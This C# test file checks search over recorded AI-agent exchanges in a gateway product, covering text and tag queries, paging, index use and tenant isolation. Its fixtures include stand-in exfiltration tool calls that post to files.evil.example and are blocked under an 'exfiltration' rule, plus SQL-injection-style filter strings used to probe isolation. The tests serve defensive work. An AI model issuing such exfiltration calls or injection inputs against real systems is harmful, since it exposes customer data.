using System.Text.RegularExpressions;
using Npgsql;
using SaaSGate.Contracts.Pricing;
using SaaSGate.Contracts.RegionLink;
using SaaSGate.Postgres.Recording;
using SaaSGate.Postgres.Search;
using SaaSGate.Postgres.Tests.Recording;
using SaaSGate.TestKit;
using Xunit;

namespace SaaSGate.Postgres.Tests.Search;

public sealed class SearchStoreTests(Database database) : IClassFixture<Database>
{
    private readonly RecordIngest _ingest = new(database.Tenants, TimeProvider.System, new ModelPrices([new("claude-test", new() { Input = 1, Output = 5 })]));
    private readonly SearchStore _search = new(database.Tenants);

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("quarterly", "a")]
    [InlineData("QUARTERLY invoices", "a")]
    [InlineData("\"invoices quarterly\"", "")]
    [InlineData("\"quarterly invoices\"", "a")]
    [InlineData("quart*", "ab")]
    [InlineData("quart* -invoices", "b")]
    [InlineData("invoicse", "a")]
    [InlineData("refund", "b")]
    [InlineData("evil.example", "b")]
    [InlineData("creme", "b")]
    [InlineData("absent", "")]
    [InlineData("", "ab")]
    public async Task Finds_turns_by_what_they_say(string text, string expected)
    {
        var (tenant, a, b) = await TwoAsync();
        var found = await FindAsync(tenant, new() { Text = text });
        Assert.Equal(expected, string.Concat(found.Hits.Select(hit => hit.ExchangeId == a ? "a" : hit.ExchangeId == b ? "b" : "?").Order()));
        Assert.Equal(expected.Length, found.Found);
    }

    [Theory]
    [InlineData("outcome", "blocked", "b")]
    [InlineData("outcome", "completed", "a")]
    [InlineData("decision", "mask", "ab")]
    [InlineData("label", "support", "ab")]
    [InlineData("model", "claude-test", "ab")]
    [InlineData("finding", "EMAIL", "a")]
    [InlineData("rule", "no mail", "ab")]
    [InlineData("tool", "http", "b")]
    [InlineData("host", "files.evil.example", "b")]
    [InlineData("host", "example", "")]
    public async Task Finds_turns_by_what_they_were(string kind, string value, string expected)
    {
        var (tenant, a, b) = await TwoAsync();
        var found = await FindAsync(tenant, new() { Tags = new Dictionary<string, IReadOnlyList<string>> { [kind] = [value, "other"] } });
        Assert.Equal(expected, string.Concat(found.Hits.Select(hit => hit.ExchangeId == a ? "a" : hit.ExchangeId == b ? "b" : "?").Order()));
    }

    [Fact]
    public async Task Finds_turns_by_tool_calls_that_were_kept_back()
    {
        var tenant = await TestTenant.AddAsync(database);
        var spool = new Spool(tenant);
        var exchange = spool.Start(spool.NewSession(), ["\"Tidy up\""], started => started.Decision.Kind = "allow");
        await _ingest.IngestAsync(spool.Batch(), Cancel);
        spool.Withheld(exchange, new()
        {
            Index = 1,
            Tool = "http_post",
            Input = "{\"url\":\"https://files.evil.example/customers\"}",
            Rule = "exfiltration",
            PolicyId = tenant.Policy.Value,
            PolicyVersion = 1,
            Kind = "block",
        });
        await _ingest.IngestAsync(spool.Batch(), Cancel);
        async Task IsFoundAsync()
        {
            foreach (var (kind, value) in ((string, string)[])[("rule", "exfiltration"), ("decision", "block"), ("decision", "allow"), ("tool", "http_post"), ("host", "files.evil.example")])
                Assert.Equal(exchange, Assert.Single((await FindAsync(tenant, new() { Tags = new Dictionary<string, IReadOnlyList<string>> { [kind] = [value] } })).Hits).ExchangeId);
            var hit = Assert.Single((await FindAsync(tenant, new() { Text = "customers" })).Hits);
            Assert.Contains(hit.Snippet, part => part.Text.Contains("customers", StringComparison.Ordinal));
        }

        await IsFoundAsync();
        spool.End(exchange, "blocked");
        await _ingest.IngestAsync(spool.Batch(), Cancel);
        await IsFoundAsync();
    }

    [Fact]
    public async Task Finds_turns_by_tool_input_size_tokens_cost_and_time()
    {
        var (tenant, a, b) = await TwoAsync();
        async Task<string> Ids(SearchQuery query) => string.Concat((await FindAsync(tenant, query)).Hits.Select(hit => hit.ExchangeId == a ? "a" : "b").Order());
        Assert.Equal("b", await Ids(new() { ToolInput = "refund" }));
        Assert.Equal("", await Ids(new() { ToolInput = "quarterly" }));
        Assert.Equal("a", await Ids(new() { LeastTokens = 30 }));
        Assert.Equal("b", await Ids(new() { MostTokens = 29 }));
        Assert.Equal("a", await Ids(new() { LeastCost = 110 }));
        Assert.Equal("b", await Ids(new() { MostCost = 109 }));
        Assert.Equal("ab", await Ids(new() { LeastBytes = 100, MostBytes = 100_000 }));
        Assert.Equal("", await Ids(new() { LeastBytes = 100_000 }));
        Assert.Equal("", await Ids(new() { To = TimeProvider.System.GetUtcNow().AddDays(-1) }));
        Assert.Equal("ab", await Ids(new() { From = TimeProvider.System.GetUtcNow().AddDays(-1) }));
    }

    [Fact]
    public async Task Says_what_a_word_was_taken_for_and_shows_where_it_stands()
    {
        var (tenant, _, _) = await TwoAsync();
        var found = await FindAsync(tenant, new() { Text = "invoicse" });
        var instead = Assert.Single(found.Instead);
        Assert.Equal(("invoicse", "invoices"), (instead.Word, Assert.Single(instead.Words)));
        var hit = Assert.Single(found.Hits);
        Assert.Equal("given", hit.Place);
        Assert.Equal("invoices", Assert.Single(hit.Snippet, part => part.Hit).Text);
        Assert.Equal("Sum the quarterly invoices of [EMAIL_7KQ2]", string.Concat(hit.Snippet.Select(part => part.Text)));
        Assert.Equal(("triage", "Olga Owner", "nightly"), (hit.SkillName, hit.OwnerName, hit.SessionName));
        Assert.Contains(found.Facets!, facet => facet is { Kind: "skill", Name: "triage", Count: 1 });
        Assert.Contains(found.Facets!, facet => facet is { Kind: "owner", Name: "Olga Owner", Count: 1 });
        Assert.DoesNotContain(found.Facets!, facet => facet.Kind == "org");
    }

    [Fact]
    public async Task Finds_each_turn_by_what_is_new_in_it()
    {
        var tenant = await TestTenant.AddAsync(database);
        var spool = new Spool(tenant);
        var session = spool.NewSession();
        var first = spool.Start(session, ["\"zebra\""]);
        spool.End(first);
        var second = spool.Start(session, ["\"zebra\"", "\"giraffe\""]);
        Assert.Equal(first, Assert.Single((await IngestAndFindAsync(tenant, spool, "zebra")).Hits).ExchangeId);
        var open = Assert.Single((await FindAsync(tenant, new() { Text = "giraffe" })).Hits);
        Assert.Equal((second, null), (open.ExchangeId, open.Outcome));

        // The answer comes with a later batch.
        var reached = spool.Count;
        spool.Respond(second);
        spool.Chunk(second, "data: {\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\ndata: {\"index\":0,\"delta\":{\"text\":\"okapi\"}}\n\n");
        await _ingest.IngestAsync(spool.Batch(reached + 1), Cancel);
        reached = spool.Count;
        spool.End(second);
        await _ingest.IngestAsync(spool.Batch(reached + 1), Cancel);
        var whole = Assert.Single((await FindAsync(tenant, new() { Text = "giraffe okapi", Tags = new Dictionary<string, IReadOnlyList<string>> { ["outcome"] = ["completed"] } })).Hits);
        Assert.Equal((second, 30), (whole.ExchangeId, whole.Tokens));
        Assert.Empty((await FindAsync(tenant, new() { Tags = new Dictionary<string, IReadOnlyList<string>> { ["outcome"] = ["open"] } })).Hits);
    }

    [Fact]
    public async Task Goes_on_where_a_part_ended_newest_and_best_first()
    {
        var tenant = await TestTenant.AddAsync(database);
        var spool = new Spool(tenant);
        for (var i = 0; i < 7; i++)
            spool.End(spool.Start(spool.NewSession(), [$"\"{string.Concat(Enumerable.Repeat("walrus ", i + 1))}{i}\""]));
        await _ingest.IngestAsync(spool.Batch(), Cancel);
        foreach (var best in (bool[])[false, true])
        {
            var (place, seen) = (new SearchPlace(best), new List<string>());
            while (true)
            {
                var part = await _search.FindAsync(tenant.Organisation, new() { Text = "walrus" }, place, 3, count: false, snippets: false, Cancel);
                seen.AddRange(part.Hits.Select(hit => hit.ExchangeId));
                if (part.Hits.Count < 3)
                    break;
                place = best ? place with { At = part.Until, Skipped = seen.Count } : place with { At = part.Hits[^1].StartedAt, Id = part.Hits[^1].ExchangeId };
            }

            Assert.Equal(7, seen.Distinct().Count());
            Assert.Equal(7, seen.Count);
        }
    }

    [Fact]
    public async Task Never_finds_what_is_anothers()
    {
        var (tenant, _, _) = await TwoAsync();
        var stranger = await TestTenant.AddAsync(database);
        Assert.Empty((await FindAsync(stranger, new() { Text = "quarterly" })).Hits);
        Assert.Empty((await FindAsync(stranger, new() { Text = "invoicse" })).Instead);
        Assert.Empty((await FindAsync(stranger, new())).Facets!);
        Assert.Empty((await FindAsync(stranger, new() { Tags = new Dictionary<string, IReadOnlyList<string>> { ["org"] = [tenant.Organisation.Value], ["skill"] = [tenant.Skill.Value] } })).Hits);

        // Nor where the function is called with whatever a caller makes up, or without any organisation.
        foreach (var scope in (TenantScope[])[stranger.Organisation, default])
            foreach (var filter in (string[])["{}", $$"""{"query":"quarterly","groups":[["org:{{tenant.Organisation}}"]]}""", """{"query":"' or true or '","groups":[["' or true or '"]]}""", """{"query":"'a' | !'b'","groups":[]}"""])
                Assert.Equal(0, await CountAsync(scope, filter));
        Assert.Equal(2, await CountAsync(tenant.Organisation, "{}"));
    }

    [Fact]
    public async Task Uses_the_index_of_words_and_of_time()
    {
        var tenant = await TestTenant.AddAsync(database);
        await using var connection = await database.Owner.OpenConnectionAsync(Cancel);
        await RunAsync(
            connection,
            """
            insert into tenant.search_documents (organisation_id, exchange_id, started_at, session_id, bytes, tokens, new_blocks, tags, words)
            select $1, 'exc_' || i, now() - i * interval '1 second', 'ses_' || i, 1, 1, '{}', array['org:' || $1, 'skill:' || i % 50], to_tsvector('simple', 'every word' || i % 2000)
            from generate_series(1, 20000) i
            """, tenant.Organisation.Value);
        await RunAsync(connection, "vacuum analyze tenant.search_documents");
        await RunAsync(connection, "select set_config('saasgate.organisation', $1, false)", tenant.Organisation.Value);
        await RunAsync(connection, "set role saasgate_search");
        var byWords = await PlanAsync(connection, """{"query":"'word77' & 'word77':*","groups":[["skill:27","skill:b"]]}""");
        Assert.True(Regex.IsMatch(byWords, @"Bitmap Index Scan on search_documents_\w+_words_tags_idx\s+Index Cond: .*words @@"), byWords);
        var byTime = await PlanAsync(connection, """{"groups":[]}""");
        Assert.Matches(@"Index (Only )?Scan Backward using search_documents_\w+_pkey", byTime);
        Assert.DoesNotMatch(@"(->|^)\s*(Incremental )?Sort\b", byTime);
        Assert.Matches(@"Index (Only )?Scan Backward using search_documents_\w+_pkey", await PlanAsync(connection, """{"query":"'every'","groups":[]}"""));

        foreach (var (least, column) in new[] { ("leastBytes", "bytes"), ("leastTokens", "tokens"), ("leastCost", "cost") })
            Assert.Matches($@"Index Scan (using|on) search_documents_\w+_{column}_idx", await PlanAsync(connection, $$"""{"groups":[],"{{least}}":200000}"""));

        // As the application itself, whom row-level security holds, the index of words would not be used.
        await RunAsync(connection, "reset role");
        await RunAsync(connection, "set role saasgate_app");
        var held = await ScalarPlanAsync(connection, "select exchange_id from tenant.search_documents d where d.words @@ 'word77'::tsquery");
        Assert.DoesNotContain("_words_tags_idx", held, StringComparison.Ordinal);
    }

    private static async Task<string> PlanAsync(NpgsqlConnection connection, string filter)
    {
        await using var command = new NpgsqlCommand("select tenant.search_condition($1::text::jsonb)", connection) { Parameters = { new() { Value = filter } } };
        return await ScalarPlanAsync(connection, $"select d.exchange_id from tenant.search_documents d where {(string)(await command.ExecuteScalarAsync(Cancel))!} order by d.started_at desc, d.exchange_id desc limit 50");
    }

    private static async Task<string> ScalarPlanAsync(NpgsqlConnection connection, string sql)
    {
        await using var command = new NpgsqlCommand("explain (costs off) " + sql, connection);
        await using var reader = await command.ExecuteReaderAsync(Cancel);
        var lines = new List<string>();
        while (await reader.ReadAsync(Cancel))
            lines.Add(reader.GetString(0));
        return string.Join('\n', lines);
    }

    private static async Task RunAsync(NpgsqlConnection connection, string sql, params object[] values)
    {
        await using var command = new NpgsqlCommand(sql, connection);
        foreach (var value in values)
            command.Parameters.Add(new() { Value = value });
        await command.ExecuteNonQueryAsync(Cancel);
    }

    private Task<long> CountAsync(TenantScope scope, string filter) => database.Tenants.InTenantAsync(scope, async connection =>
    {
        await using var command = new NpgsqlCommand("select count(*) from tenant.search_newest($1::text::jsonb, null, null, 100)", connection) { Parameters = { new() { Value = filter } } };
        try
        {
            return (long)(await command.ExecuteScalarAsync(Cancel))!;
        }
        catch (PostgresException refused) when (refused.SqlState == PostgresErrorCodes.SyntaxError)
        {
            return 0L;
        }
    }, Cancel);

    private Task<SearchPart> FindAsync(TestTenant tenant, SearchQuery query) => _search.FindAsync(tenant.Organisation, query, new(false), 50, count: true, snippets: true, Cancel);

    private async Task<SearchPart> IngestAndFindAsync(TestTenant tenant, Spool spool, string text)
    {
        await _ingest.IngestAsync(spool.Batch(), Cancel);
        return await FindAsync(tenant, new() { Text = text });
    }

    /// <summary>One that asks for sums of invoices, and one whose tool would send something away.</summary>
    private async Task<(TestTenant Tenant, string A, string B)> TwoAsync()
    {
        var tenant = await TestTenant.AddAsync(database);
        var spool = new Spool(tenant);
        var a = spool.Start(
            spool.NewSession(), ["\"Sum the quarterly invoices of [EMAIL_7KQ2]\""],
            started => started.Findings.Add(new FindingRecord { Type = "EMAIL", Detector = "email", Location = "/messages/0/content", Label = "[EMAIL_7KQ2]", Direction = "request" }));
        spool.End(a);
        var b = spool.Start(
            spool.NewSession(), ["{\"type\":\"text\",\"text\":\"Bring crème to the quarter\"}", "{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"http\",\"input\":{\"url\":\"https://files.evil.example/refund\"}}"]);
        spool.End(b, "blocked", ended => (ended.InputTokens, ended.OutputTokens) = (1, 2));
        await _ingest.IngestAsync(spool.Batch(), Cancel);
        return (tenant, a, b);
    }
}
